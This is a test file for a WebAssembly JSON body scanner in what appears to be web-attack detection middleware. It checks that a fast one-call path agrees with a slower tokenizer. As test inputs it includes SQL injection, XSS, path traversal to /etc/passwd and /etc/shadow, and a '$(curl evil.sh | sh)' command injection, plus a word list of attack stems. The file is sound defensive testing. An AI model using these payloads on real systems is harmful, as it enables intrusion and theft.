// A JSON body that arrives whole in wasm memory is walked and scanned in one wasm call
// (assembly/scanner/json.ts). Only its "clean" verdict is used; anything else goes to the
// host tokenizer. So it must agree with that tokenizer on every document: the same verdict,
// the same malformed flag, the same values and bytes counted in the stats.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createArena, createDetector, createStandardPools, type Arena, type Detector } from '../../src/index.js';
import { createBodyScanner } from '../../src/middleware/body-scan.js';
import { wasmOf } from '../../src/internal.js';
import type { GuardDetector } from '../../src/middleware/detector.js';

let arena: Arena;
let detector: Detector;
/** The same detector without its one-call walk: the body scanner then tokenizes in TypeScript. */
let valueByValue: GuardDetector;
beforeAll(async () => {
  arena = await createArena({ pools: createStandardPools() });
  detector = await createDetector({ arena });
  valueByValue = new Proxy(detector, {
    get: (target, key) => (key === 'scanJsonAt' ? undefined : typeof Reflect.get(target, key) === 'function'
      ? (Reflect.get(target, key) as (...a: unknown[]) => unknown).bind(target) : Reflect.get(target, key)),
  }) as unknown as GuardDetector;
});
afterAll(async () => {
  await detector.close();
  await arena.close();
});

const enc = new TextEncoder();

/** Scan `text` as one in-place chunk, as the middleware does; the stats it added too. */
function scanWhole(d: GuardDetector, text: string) {
  const bytes = enc.encode(text);
  const before = detector.getStats();
  const lease = arena.poolFor(Math.max(1, bytes.length)).acquire();
  try {
    lease.write(bytes);
    const scanner = createBodyScanner(d, 'application/json');
    scanner.push(bytes, lease.bytes.byteOffset);
    const r = scanner.finish();
    const after = detector.getStats();
    return {
      malformed: scanner.malformed,
      blocked: r.blocked,
      score: r.score,
      threats: r.threats.map((t) => `${t.ruleId}@${t.location}:${t.offset}+${t.length}`).sort(),
      scans: after.scans - before.scans,
      bytes: after.bytesScanned - before.bytesScanned,
    };
  } finally {
    lease.release();
    detector.endFields(-1);
  }
}

function expectSameAsValueByValue(text: string): ReturnType<typeof scanWhole> {
  const oneCall = scanWhole(detector as unknown as GuardDetector, text);
  expect(oneCall, text.slice(0, 200)).toEqual(scanWhole(valueByValue, text));
  return oneCall;
}

const ATTACKS = [
  "1' OR '1'='1' -- ", '<img src=x onerror=alert(1)>', '; cat /etc/passwd', '../../../../etc/shadow',
  '<script>alert(document.cookie)</script>', "admin'--", '1 UNION SELECT password FROM users', '$(curl evil.sh | sh)',
  '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e', 'javascript:alert(1)', '..\\\\..\\\\windows\\\\win.ini', '{"$gt": ""}',
];
const WORDS = ['name', 'price', 'settings', 'review', 'for', 'the', 'Ana Maria', 'ana@example.com', 'SKU-123', 'x', '', 'a\\"b', 'tab\\tnew\\nline', 'caf\u00e9', '\u65e5\u672c', '1.5', 'or', 'select', 'and'];

/** A deterministic random JSON document: nested objects and arrays, keys and values from the lists above. */
function randomDocument(seed: number, attackRate: number): string {
  let s = seed >>> 0;
  const next = (n: number) => { s = (Math.imul(s, 1664525) + 1013904223) >>> 0; return s % n; };
  const str = () => `"${attackRate > 0 && next(100) < attackRate ? ATTACKS[next(ATTACKS.length)]!.replace(/"/g, '\\"') : WORDS[next(WORDS.length)]}"`;
  const value = (depth: number): string => {
    const k = next(depth > 4 ? 3 : 6);
    if (k === 0) return str();
    if (k === 1) return ['1', '-2.5e3', 'true', 'false', 'null'][next(5)]!;
    if (k === 2) return str();
    if (k === 3) return `[${Array.from({ length: next(4) }, () => value(depth + 1)).join(',')}]`;
    return `{${Array.from({ length: next(5) }, () => `${str()}:${value(depth + 1)}`).join(', ')}}`;
  };
  return `{"root":${value(0)},"list":[${Array.from({ length: 1 + next(6) }, () => `{"sku":${str()},"qty":${next(9)},"text":${str()}}`).join(',')}]}`;
}

describe('one-call JSON walk', () => {
  it('agrees with the value-by-value walk on clean and attacked documents', () => {
    let clean = 0;
    for (let seed = 1; seed <= 300; seed++) {
      const r = expectSameAsValueByValue(randomDocument(seed, seed % 3 === 0 ? 0 : 12));
      if (r.threats.length === 0) clean++;
    }
    expect(clean).toBeGreaterThan(50); // both outcomes were exercised
    expect(clean).toBeLessThan(300);
  });

  it('agrees on values of plain words, which the walk may settle without a scan', () => {
    // (json.ts's quietWords: letters and digits between spaces, no keyword, no word glued to a
    // leading digit, none longer than 32 bytes; anything else goes through the scan)
    const values = [
      'Ana Maria', 'ANA  MARIA', ' great fast ', '12345', 'order 66', 'please SELECT all', 'UNION SELECT password FROM users',
      '0x2e0x2e0x2f0x2e0x2e0x2f0x2e0x2e0x2fetc0x2fpasswd', '0x2e0x2e0x2f', 'a 0x2e0x2e0x2f0x2e0x2e0x2f', '1union 1select', 'x'.repeat(33), 'x'.repeat(70), 'onload',
      'id', 'Boise ID', 'ls', 'etc passwd', 'a b c d e f g', '',
    ];
    for (const v of values) expectSameAsValueByValue(JSON.stringify({ text: v, [v.slice(0, 20)]: v }));
    // (hex-spelled ../ glued after a leading digit: short enough for the length rule to let it through)
    expect(expectSameAsValueByValue(JSON.stringify({ path: 'a 0x2e0x2e0x2f0x2e0x2e0x2f' })).blocked).toBe(true);
  });

  it('settles values of words joined by one - . or @ the same way (SKU-28839, ana@example.com, 1.25)', () => {
    const values = [
      'SKU-28839', 'ana@example.com', '1.25', 'Ana.Maria@Example.com', 'web.config', 'boot.ini', 'etc.passwd', 'index.php',
      'a--b', 'a..b', '-rf', 'x-', '.htaccess', 'a@@b', 'a-.b', 'user@localhost', '127.0.0.1', '1-1', '1.e5', '0x2e.0x2e',
      'document.cookie', 'this.constructor', 'x.y.z', 'ls-la', 'sku- 1', 'sku -1',
    ];
    for (const v of values) expectSameAsValueByValue(JSON.stringify({ text: v, [v.slice(0, 20)]: v }));
  });

  it('agrees on plain-word values of every length at every distance from the document\'s end', () => {
    // (quietWords checks 16 bytes at a time; a value's last block is read whole only when 16 bytes
    // of the document are there, else byte by byte: both ways, each lane count, a bad byte in each lane)
    for (let n = 0; n <= 40; n++) {
      for (const bad of [-1, 0, Math.floor(n / 2), n - 1]) {
        const chars = Array.from({ length: n }, (_, i) => (i % 7 === 6 ? ' ' : 'bcdfg'[i % 5]));
        if (bad >= 0 && bad < n) chars[bad] = '<';
        const v = chars.join('');
        for (const pad of [0, 3, 15, 16, 17]) expectSameAsValueByValue(`["${v}"${' '.repeat(pad)}]`);
        expectSameAsValueByValue(`{"k":"${v}","x":"${v.toUpperCase()}"}`);
      }
    }
  });

  it('agrees on malformed, cut and odd documents', () => {
    const docs = [
      '{"a": <b>}', '{"a": "unterminated', '{"a": [1, 2}', '', '   ', '{"a":1}}', '{"a":1} {"b":2}', '{"a":1},', ',{"a":1}',
      '[]', '{}', '[[[[]]]]', '"just a string"', '42', '{"a":"b\\"}', '{"a":"b\\\\"}', '{"a\\"":"x"}', '{"k":"v" "k2":"v2"}',
      '{"a" "b"}', '{"a":tru}', '{"a":1}\n', '\t{"a":[1,{"b":[]}]}  \r\n', '{"a":"<script>"}', '["<script>", "x"]',
      '{"x": "y"]', '[{"x": "y"}}', '{"a":"\\u003cimg src=x onerror=alert(1)\\u003e"}',
    ];
    for (const doc of docs) expectSameAsValueByValue(doc);
  });

  it('agrees past the host tokenizer\'s depth limit', () => {
    for (const depth of [511, 512, 513]) expectSameAsValueByValue(`${'['.repeat(depth)}"x"${']'.repeat(depth)}`);
  });

  it('counts repeated keys as the host does: memoised within a document, 16 at a time', () => {
    for (const distinct of [1, 15, 16, 17, 40]) {
      const keys = Array.from({ length: distinct }, (_, i) => `"key${i}":"v${i % 3}"`).join(',');
      const doc = `[${Array.from({ length: 4 }, () => `{${keys}}`).join(',')}]`;
      const r = expectSameAsValueByValue(doc);
      expect(r.threats).toEqual([]);
    }
  });

  it('answers a clean whole document in one call, and leaves anything else to the host', () => {
    const put = (text: string) => {
      const bytes = enc.encode(text);
      const lease = arena.poolFor(Math.max(1, bytes.length)).acquire();
      lease.write(bytes);
      const before = detector.getStats().scans;
      const r = detector.scanJsonAt(lease.bytes.byteOffset, bytes.length);
      const counted = detector.getStats().scans - before;
      lease.release();
      detector.endFields(-1);
      return { r, counted };
    };
    expect(put('{"user":{"name":"Ana","tags":["a","b"]},"n":1}')).toEqual({ r: null, counted: 7 }); // user, name, "Ana", tags, "a", "b", n
    for (const text of ['{"q":"1\' OR \'1\'=\'1"}', '{"a":"x"', '{"a":"x"}]', '{"a": x}', '']) {
      expect(put(text), text).toEqual({ r: undefined, counted: 0 });
    }
  });

  it('fails closed when the scan fails', async () => {
    const a = await createArena({ pools: createStandardPools() });
    const d = await createDetector({ arena: a });
    const bytes = enc.encode('{"a":"plain"}');
    const lease = a.poolFor(bytes.length).acquire();
    lease.write(bytes);
    d.injectScanFault();
    const scanner = createBodyScanner(d as unknown as GuardDetector, 'application/json');
    scanner.push(bytes, lease.bytes.byteOffset);
    const r = scanner.finish();
    expect(r.blocked).toBe(true);
    expect(r.threats.map((t) => `${t.ruleId}@${t.location}`)).toEqual(['internal.error@body:$']);
    expect(d.getStats().internalErrors).toBe(1);
    await d.close();
    await a.close();
  });
});

// json.ts's quietWords settles a value without scanning it: only sound when scanOnce would find nothing for
// every value it accepts. Random values of words (prose, data, the detectors' own stems and operators, random
// short ones, numbers) joined by spaces, '-', '.', '@' and runs or edges of them; each one quietWords accepts is
// scanned in every context at paranoia 1 and 2 and must be clean. (QUIET_ROUNDS=300000 for a longer run.)
describe('quietWords', () => {
  const VOCAB = [
    'sku', 'ana', 'maria', 'example', 'com', 'net', 'org', 'io', 'mail', 'gmail', 'review', 'settings', 'price', 'delivery',
    'invoice', 'thanks', 'week', 'great', 'product', 'customer', 'warehouse', 'color', 'size', 'quantity', 'comment', 'total',
    'web', 'config', 'boot', 'ini', 'win', 'etc', 'passwd', 'shadow', 'htaccess', 'htpasswd', 'env', 'git', 'ssh', 'id', 'rsa',
    'php', 'jsp', 'asp', 'aspx', 'exe', 'bat', 'cmd', 'sh', 'bash', 'py', 'pl', 'rb', 'js', 'html', 'xml', 'yml', 'yaml',
    'json', 'sql', 'db', 'bak', 'old', 'swp', 'log', 'key', 'pem', 'crt', 'conf', 'cfg', 'properties', 'credentials',
    'aws', 'npmrc', 'docker', 'compose', 'kube', 'wp', 'admin', 'root', 'user', 'users', 'password', 'localhost', 'system32',
    'windows', 'drivers', 'hosts', 'proc', 'self', 'environ', 'var', 'www', 'tmp', 'dev', 'null', 'tcp', 'aux', 'con',
    'nul', 'prn', 'com1', 'lpt1', 'alert', 'document', 'cookie', 'window', 'location', 'this', 'constructor', 'prototype',
    'proto', 'eval', 'fetch', 'src', 'href', 'style', 'on', 'onload', 'onerror', 'onx', 'javascript', 'vbscript', 'data',
    'url', 'import', 'require', 'process', 'mainmodule', 'child', 'exec', 'spawn', 'sleep', 'benchmark', 'version', 'char',
    'chr', 'concat', 'information', 'schema', 'tables', 'columns', 'pg', 'sqlite', 'master', 'xp', 'cmdshell', 'nc',
    'wget', 'curl', 'python', 'perl', 'ruby', 'powershell', 'whoami', 'uname', 'ifconfig', 'ping', 'nslookup', 'dir',
    'type', 'cat', 'ls', 'rm', 'rf', 'la', 'or', 'and', 'not', 'select', 'union', 'from', 'where', 'like', 'is', 'in',
    'true', 'false', 'x', 'b', 'n', 'e', 'u', 'utf8', 'binary', 'typeof', 'void', 'new', 'delete', 'instanceof', 'gt', 'ne',
    'where', 'regex', 'func', 'function', 'return', 'var', 'let', 'const', 'db', 'mongo', 'collection', 'find',
    '0', '1', '00', '01', '10', '127', '169', '254', '255', '8080', '28839', '2024', '12', '31', '1e5', '0x41', '0x2e',
  ];
  const LETTERS = 'abcdefghijklmnopqrstuvwxyz';
  const JOIN = [' ', ' ', ' ', '-', '-', '.', '.', '@', '@', '--', '..', '@@', '-.', ' -', '. ', ''];
  // (a browser has no process: the defaults there)
  const env = (globalThis as { process?: { env: Record<string, string | undefined> } }).process?.env ?? {};
  const ROUNDS = Number(env.QUIET_ROUNDS ?? 10000);

  it('accepts only values scanOnce finds nothing in, in every context at paranoia 1 and 2', () => {
    const ex = wasmOf(arena).exports;
    const stBytes = ex.scanStateBytes() as number, scrBytes = ex.scanScratchBytes() as number;
    const st = arena.poolFor(stBytes).acquire(), scr = arena.poolFor(scrBytes).acquire(), inp = arena.poolFor(256).acquire();
    let s = 0x9e3779b9;
    const next = (n: number) => { s = (Math.imul(s, 1664525) + 1013904223) >>> 0; return s % n; };
    const word = () => {
      const k = next(10);
      let w = k < 5 ? VOCAB[next(VOCAB.length)]! : k < 8 ? Array.from({ length: 1 + next(k === 7 ? 12 : 5) }, () => LETTERS[next(26)]).join('')
        : String(next(k === 8 ? 100 : 100000));
      if (next(4) === 0) w = w.toUpperCase(); else if (next(4) === 0) w = w[0]!.toUpperCase() + w.slice(1);
      return w;
    };
    let quiet = 0, joined = 0;
    const seen: string[] = [];
    try {
      for (let r = 0; r < ROUNDS; r++) {
        const parts = [next(8) === 0 ? JOIN[next(JOIN.length)]! : ''];
        const words = 1 + next(4);
        for (let k = 0; k < words; k++) parts.push(word(), k + 1 < words ? JOIN[next(JOIN.length)]! : next(8) === 0 ? JOIN[next(JOIN.length)]! : '');
        const v = parts.join('');
        const bytes = enc.encode(v);
        // (the value, its closing quote and a few bytes of the document after it: the readable room)
        const room = bytes.length + 1 + next(20);
        const at = inp.bytes.byteOffset;
        new Uint8Array(wasmOf(arena).memory.buffer, at, room).fill(0x7d).set(bytes);
        new Uint8Array(wasmOf(arena).memory.buffer, at + bytes.length, 1)[0] = 0x22;
        if (!ex.quietWords(at, bytes.length, room)) continue;
        quiet++;
        if (/[-.@]/.test(v)) { joined++; if (seen.length < 40) seen.push(v); }
        for (let context = 0; context <= 6; context++) {
          for (const paranoia of [1, 2]) {
            const found = ex.scanOnce(st.bytes.byteOffset, scr.bytes.byteOffset, at, bytes.length, context, paranoia, 0xffffffff) as number;
            expect(found, `${JSON.stringify(v)} context ${context} paranoia ${paranoia}`).toBe(0);
          }
        }
      }
    } finally {
      st.release(); scr.release(); inp.release();
    }
    if (env.QUIET_SHOW) console.log(quiet, joined, seen.join(' | '));
    // (both kinds of accepted value were exercised)
    expect(joined).toBeGreaterThan(ROUNDS / 100);
    expect(quiet - joined).toBeGreaterThan(ROUNDS / 50);
  }, 1_200_000); // (QUIET_ROUNDS=300000 takes minutes)

  it('accepts the joined words it was widened for', () => {
    const ex = wasmOf(arena).exports;
    const inp = arena.poolFor(256).acquire();
    try {
      const quietWords = (v: string) => {
        const bytes = enc.encode(`${v}"`);
        new Uint8Array(wasmOf(arena).memory.buffer, inp.bytes.byteOffset, bytes.length).set(bytes);
        return ex.quietWords(inp.bytes.byteOffset, bytes.length - 1, bytes.length) as number;
      };
      for (const v of ['SKU-28839', 'SKU-4536', 'week-72118', 'Ana Maria', 'great review']) expect(quietWords(v), v).toBe(1);
      for (const v of ['a--b', 'x-', '-rf', '.htaccess', 'a..b', 'a@@b', 'sku -1', 'web.config', '1union', 'x'.repeat(33)]) expect(quietWords(v), v).toBe(0);
    } finally {
      inp.release();
    }
  });
});
